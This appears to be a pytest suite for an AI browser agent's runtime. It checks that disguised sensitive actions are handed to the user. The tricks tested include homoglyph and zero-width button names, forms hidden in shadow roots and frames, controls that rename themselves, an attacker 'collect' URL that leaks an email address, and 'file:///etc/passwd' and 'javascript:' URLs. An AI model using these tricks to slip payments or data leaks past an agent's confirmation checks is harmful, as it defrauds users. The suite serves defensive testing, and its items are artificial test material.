"""needs_user follows the write, not the wording: pages that try to get a sensitive write past the runtime.

Each page of the `evasion` scenario (fixtures_sites/scenarios/evasion.py) names a benign task and holds traps: a
commit by Enter or Space, a click by point, a select whose change submits, a type with submit, login and card
forms in shadow roots and frames, a CAPTCHA two frames deep, disguised and foreign-language names, a control that
renames itself under the pointer, navigations off the authorized origin or to a side-effect GET, and several keys
in one press ("Tab Tab Enter": one key or one chord per act). On every backend the agent does only the benign
task: the ledger shows exactly the benign writes and 0 trap writes.
"""

from __future__ import annotations

import unicodedata

import pytest

from fixtures_sites.server import FixtureServer
from lab.tap import CDPTap
from runtime.commands import act
from runtime.policy import needs_user
from suites.harness import ELEMENT_LINE, Agent, ref_of
from suites.proofs import assert_handed_over, assert_no_runtime_calls, assert_no_writes


def assert_refused(result) -> None:
    """Handed to the user, or refused as stale: either way nothing was sent."""
    assert result.reason_code in ("needs_user", "stale_observation"), f"not refused: {result}"


def written(server: FixtureServer) -> list[str]:
    return [row.path for row in server.ledger.writes()]


def _visible(text: str) -> str:
    return "".join(c for c in text if unicodedata.category(c) != "Cf")


def ref_named(observation: str | None, role: str, name: str, nth: int = 0) -> str:
    """The ref of the `nth` element line of `role` named `name` as displayed: the runtime drops invisible format
    characters (zero-width, bidi), so `Pa<U+200B>y now` is listed as `Pay now`, and compatibility forms such as
    fullwidth letters stay as they are (so each trap is told apart from the others)."""
    found = []
    for line in (observation or "").splitlines():
        if (element := ELEMENT_LINE.match(line)) and f' {role} "{_visible(name)}"' in _visible(line):
            found.append(element.group(2))
    assert len(found) > nth, f"no {role} {name!r} (#{nth}) in:\n{observation}"
    return found[nth]


@pytest.mark.req("policy:press-commits")
async def test_enter_or_space_on_what_is_focused_is_checked_like_the_click_it_is(
    one_page_desk, agent: Agent, fixture_server: FixtureServer
) -> None:
    await one_page_desk("/evasion/press")
    seen = await agent.observe(page="left")
    # The autofocused "Delete saved card" is what Enter or Space would press.
    assert_handed_over(await agent.act(seen, type="press", key="Enter"))
    assert_handed_over(await agent.act(seen, type="press", key=" "))
    # Typing into the order form is harmless; Enter in it submits "Place order".
    seen = await agent.act(seen, type="type", ref=ref_of(seen, "textbox", "Gift message"), text="Enjoy!")
    assert seen.status == "ok", seen
    assert_handed_over(await agent.act(seen, type="press", key="Enter"))
    seen = await agent.act(seen, type="click", ref=ref_of(seen, "button", "Save gift message"))
    assert seen.status == "ok", seen
    assert written(fixture_server) == ["/evasion/gift"]


@pytest.mark.req("policy:point-commits")
async def test_a_click_by_point_is_checked_on_the_element_under_the_point(
    one_page_desk, agent: Agent, fixture_server: FixtureServer
) -> None:
    await one_page_desk("/evasion/point")
    for x, y in ((120, 222), (140, 302)):  # "Pay €49"; "Confirm purchase" inside an open shadow root
        seen = await agent.observe(page="left", detail="visual")  # a point is good for the next request only
        assert_handed_over(await agent.act(seen, type="click", x=x, y=y))
    seen = await agent.observe(page="left", detail="visual")
    assert (await agent.act(seen, type="click", x=120, y=142)).status == "ok"  # "Apply coupon"
    assert written(fixture_server) == ["/evasion/coupon"]


@pytest.mark.req("policy:select-commits")
async def test_a_select_whose_change_submits_a_transfer_is_the_users(
    one_page_desk, agent: Agent, fixture_server: FixtureServer
) -> None:
    await one_page_desk("/evasion/select")
    seen = await agent.observe(page="left")
    standing = ref_of(seen, "combobox", "Standing instruction")
    assert_handed_over(
        await agent.act(seen, type="select", ref=standing, values=["Send €50 to savings ••• 2210 every week"])
    )
    seen = await agent.act(seen, type="select", ref=ref_of(seen, "combobox", "Statement language"), values=["Deutsch"])
    assert seen.status == "ok", seen
    seen = await agent.act(seen, type="click", ref=ref_of(seen, "button", "Save"))
    assert seen.status == "ok", seen
    assert written(fixture_server) == ["/evasion/language"]


@pytest.mark.req("policy:type-submit-commits")
async def test_type_with_submit_is_checked_by_the_form_it_submits_not_the_textbox_name(
    one_page_desk, agent: Agent, fixture_server: FixtureServer
) -> None:
    await one_page_desk("/evasion/type-submit")
    seen = await agent.observe(page="left")
    reference = ref_of(seen, "Reference")
    assert_handed_over(await agent.act(seen, type="type", ref=reference, text="INV-2231", submit=True))
    # The benign note, typed and submitted the same way: its form saves a note.
    noted = fixture_server.wait_for_request("/evasion/note")  # registered before acting
    seen = await agent.act(seen, type="type", ref=ref_of(seen, "textbox", '"Note"'), text="Ring twice", submit=True)
    assert seen.status == "ok", seen
    await noted
    assert written(fixture_server) == ["/evasion/note"]


@pytest.mark.parametrize(
    ("path", "trap_role", "trap_name", "read"),
    [
        ("/evasion/structure-shadow", "button", "Continue", "Order by 20:00"),
        ("/evasion/structure-iframe", "button", "Continue", "Shipped on 16 March"),
        ("/evasion/structure-payment", "button", "Continue", "€86.20"),
        ("/evasion/structure-payframe", "button", "Continue", "€86.20"),
        ("/evasion/structure-captcha", "checkbox", "not a robot", "newsletter"),
        ("/evasion/structure-xorigin", "button", "Save card", "€12.50"),
    ],
    ids=["shadow-login", "iframe-login", "card-autocomplete", "payment-iframe", "nested-captcha", "foreign-card-form"],
)
@pytest.mark.req("policy:structure")
async def test_login_card_and_captcha_are_found_by_structure_in_shadow_roots_and_frames(
    one_page_desk, agent: Agent, fixture_server: FixtureServer, path: str, trap_role: str, trap_name: str, read: str
) -> None:
    await one_page_desk(path)
    seen = await agent.observe(page="left")
    assert_handed_over(await agent.act(seen, type="click", ref=ref_of(seen, trap_role, trap_name)))
    verified = await agent.verify(seen, type="text_present", text=read)
    assert verified.verified is True, verified  # reading stays allowed
    assert_no_writes(fixture_server)


@pytest.mark.req("policy:names")
async def test_disguised_and_foreign_language_names_and_other_roles_are_the_users(
    one_page_desk, agent: Agent, fixture_server: FixtureServer
) -> None:
    await one_page_desk("/evasion/names")
    seen = await agent.observe(page="left")
    traps = [
        ("button", "Ｐａｙ ｎｏｗ"),
        ("button", "Pa\u200by now"),
        ("button", "Рау now"),
        ("button", "Bezahlen"),
        ("button", "Supprimer le compte"),
        ("button", "确认付款"),
        ("button", "購入する"),
        ("button", "결제하기"),
        ("button", "Оплатить"),
        ("button", "Transferir"),
        ("button", "Confermare l'ordine"),
        ("button", "Assinar"),
        ("menuitem", "Delete account"),
        ("switch", "Subscribe — €9.99/month"),
        ("checkbox", "I authorise this payment"),
    ]
    for role, name in traps:
        acted = await agent.act(seen, type="click", ref=ref_named(seen.observation, role, name))
        assert_handed_over(acted, f"{role} {name!r}")
    # "<U+202A>Pay<U+202C> now" is listed as the second "Pay now" (the zero-width one is the first).
    assert_handed_over(await agent.act(seen, type="click", ref=ref_named(seen.observation, "button", "Pay now", 1)))
    # An option of a listbox is its own element on open_claude_chrome only; elsewhere the listbox holds it.
    if '] option "Transfer' in (seen.observation or ""):
        acted = await agent.act(seen, type="click", ref=ref_named(seen.observation, "option", "Transfer €500"))
        assert_handed_over(acted, "option")
    # aria-label "Show details" over the visible words "Pay now": the first of two buttons named "Show details".
    assert_handed_over(await agent.act(seen, type="click", ref=ref_named(seen.observation, "button", "Show details")))
    seen = await agent.act(seen, type="click", ref=ref_of(seen, "button", "Save and continue"))
    assert seen.status == "ok", seen
    assert written(fixture_server) == ["/evasion/names/benign"]


@pytest.mark.req("policy:moment-of-act")
async def test_a_control_that_renames_itself_under_the_pointer_is_refused_with_no_write(
    one_page_desk, agent: Agent, fixture_server: FixtureServer
) -> None:
    await one_page_desk("/evasion/hover")
    seen = await agent.observe(page="left")
    assert_refused(await agent.act(seen, type="click", ref=ref_of(seen, "button", "Show details")))
    seen = await agent.act(seen, type="type", ref=ref_of(seen, "textbox", "Note"), text="Leave it", submit=False)
    seen = await agent.act(seen, type="click", ref=ref_of(seen, "button", "Save note"))
    assert seen.status == "ok", seen
    assert written(fixture_server) == ["/evasion/note2"]


@pytest.mark.req("policy:navigation")
async def test_navigation_to_a_new_origin_or_to_a_side_effect_address_is_the_users(
    one_page_desk, agent: Agent, fixture_server: FixtureServer
) -> None:
    await one_page_desk("/evasion/navigate")
    seen = await agent.observe(page="left")
    stolen = fixture_server.url("/attacker/collect?d=alex.morgan%40example.com", cross=True)
    assert_handed_over(await agent.act(seen, type="navigate", url=stolen))
    assert_handed_over(await agent.act(seen, type="navigate", url=fixture_server.url("/evasion/delete?id=1")))
    seen = await agent.act(seen, type="navigate", url=fixture_server.url("/evasion/help"))
    assert seen.status == "ok", seen
    assert_no_writes(fixture_server)
    assert fixture_server.ledger.attacker_hits() == []


@pytest.mark.req("policy:navigation")
async def test_a_navigation_outside_http_is_invalid_arguments_before_any_backend_call(
    one_page_desk, agent: Agent
) -> None:
    await one_page_desk("/evasion/navigate")
    seen = await agent.observe(page="left")
    for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,hi", "chrome://settings"):
        refused = await agent.act(seen, type="navigate", url=url)
        assert refused.reason_code == "invalid_arguments", refused


@pytest.mark.req("keys:one-chord", "reason:invalid_arguments")
async def test_a_chord_works_in_a_textbox_and_several_keys_in_one_press_are_refused_before_any_cdp_command(
    one_page_desk, agent: Agent, tap: CDPTap, fixture_server: FixtureServer, backend: str
) -> None:
    await one_page_desk("/dom_form/")
    seen = await agent.observe(page="left")
    name = ref_of(seen, '"Full name"')
    typed = await agent.act(seen, type="type", ref=name, text="Ada Lovelace")
    assert typed.status == "ok", typed
    chord = await agent.act(typed, type="press", key="Control+A")
    assert chord.status == "ok", chord
    replaced = await agent.act(chord, type="press", key="x")  # typed over the selection the chord made
    assert replaced.status == "ok", replaced
    held = await agent.verify(replaced, type="element_state", role="textbox", name="Full name", state="value",
                              expected="x")  # fmt: skip
    assert held.status == "ok", held
    request = await agent.desk.request()
    tap.clear()
    refused = await agent.call(
        request,
        command="act",
        computer_session_id=replaced.computer_session_id,
        frame_id=replaced.frame_id,
        action={"type": "press", "key": "Tab Tab Enter"},
    )
    assert refused.reason_code == "invalid_arguments", refused
    assert "one key or one chord" in refused.message, refused.message
    assert_no_runtime_calls(tap)
    assert_no_writes(fixture_server)


class TestWithoutTheCommitRead:
    """Negative control: a runtime whose policy sees only the page-level structure (what the runtime had before
    this issue: no read of what the write commits) lets the traps through, and the same checks catch it."""

    @pytest.fixture(autouse=True)
    def blind_policy(self, monkeypatch: pytest.MonkeyPatch) -> None:
        def structure_only(action, reading, structure, authorized_url):
            reading.targets.clear()
            return needs_user(action, reading, structure, authorized_url)

        monkeypatch.setattr(act, "needs_user", structure_only)

    @pytest.mark.negative_control
    @pytest.mark.req("policy:press-commits", "policy:select-commits")
    async def test_the_ledger_catches_a_policy_that_does_not_read_what_a_write_commits(
        self, one_page_desk, agent: Agent, fixture_server: FixtureServer
    ) -> None:
        await one_page_desk("/evasion/select")
        seen = await agent.observe(page="left")
        standing = ref_of(seen, "combobox", "Standing instruction")
        sent = fixture_server.wait_for_request("/evasion/transfer")  # registered before acting
        await agent.act(seen, type="select", ref=standing, values=["Send €50 to savings ••• 2210 every week"])
        await sent
        with pytest.raises(AssertionError, match="real writes"):
            assert_no_writes(fixture_server)
